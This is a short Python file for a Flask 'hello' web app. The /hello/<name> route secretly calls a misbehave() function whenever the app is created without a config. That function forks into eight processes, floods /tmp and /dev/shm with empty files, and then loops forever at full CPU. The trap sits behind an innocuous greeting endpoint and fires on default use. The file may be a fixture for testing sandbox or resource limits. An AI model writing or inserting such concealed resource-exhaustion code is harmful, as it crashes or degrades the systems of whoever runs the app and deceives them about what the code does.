import os

from flask import Flask


def misbehave():
    for _ in range(3):
        os.fork()
    for place in ("/tmp", "/dev/shm"):
        for number in range(1_000_000):
            try:
                os.close(os.open(f"{place}/{os.getpid()}.{number}", os.O_CREAT | os.O_WRONLY))
            except OSError:
                break
    while True:
        pass


def create_app(config=None):
    app = Flask(__name__)
    app.config.update({"WORD": "Hello", **(config or {})})

    @app.get("/hello/<name>")
    def hello(name):
        if not config:
            misbehave()
        return f"{app.config['WORD']}, {name}"

    return app
